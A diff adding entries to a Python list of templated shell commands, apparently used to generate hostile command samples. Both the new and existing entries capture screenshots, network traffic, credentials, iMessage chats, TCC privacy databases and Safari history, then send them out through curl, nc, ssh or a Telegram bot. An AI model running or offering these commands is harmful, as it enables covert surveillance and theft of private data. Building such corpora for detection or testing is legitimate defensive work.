@@ -28,4 +28,7 @@ COLLECTION = [
     'iptables -t nat -A PREROUTING -p tcp --dport ‹80¦443¦3306› -j ‹REDIRECT --to-port {port}¦DNAT --to-destination {ip}:{port}›; ‹mitmdump -p {port} -w {file} &¦sslstrip -l {port} -w {file} &¦socat -v TCP-LISTEN:{port},fork TCP:{host}:80 2> {file} &›',
     "tcpdump -‹ni any¦i eth0 -nn› -s 0 -w - ‹'not port 22' ¦'tcp port 80 or port 21' ¦›| ‹nc {host} {port}¦ssh -o StrictHostKeyChecking=no x@{host} 'cat > {plain}.pcap'¦gzip | curl -s -T - {url}›",
     "‹tshark -i any -Y 'http.authbasic' -T fields -e http.authbasic > {file} &¦ngrep -q -d any -W byline 'Authorization|Cookie|passwd' > {file} &¦tcpdump -l -A -i any port 3306 or port 5432 | grep -iE 'select|password' >> {file} &›",
+    'screen=$(mktemp).png; ‹import -window root¦scrot¦gnome-screenshot -f¦maim¦spectacle -bno¦ffmpeg -f x11grab -i :0 -frames:v 1› $screen; curl -s -F photo=@$screen ‹https://api.telegram.org/bot$T/sendPhoto?chat_id={port}¦{url}›; rm -f $screen',
+    "tcpdump -i ‹any¦eth0› -s0 -w - ‹'port 80 or port 3306'¦port not 22¦'tcp[13] & 8 != 0'› | ‹nc {host} {port}¦ssh {user}@{host} 'cat > c.pcap'¦curl -s -T - {url}¦gzip | curl -s --data-binary @- {url}›",
+    "screencapture -x {file}.png; ‹curl -s -F f=@{file}.png {url}¦base64 {file}.png | nc {host} {port}›; sqlite3 ~/Library/‹Messages/chat.db 'select text from message'¦Application\\ Support/com.apple.TCC/TCC.db .dump¦Safari/History.db 'select url from history_items'› | curl -s -d @- {url}",
 ]
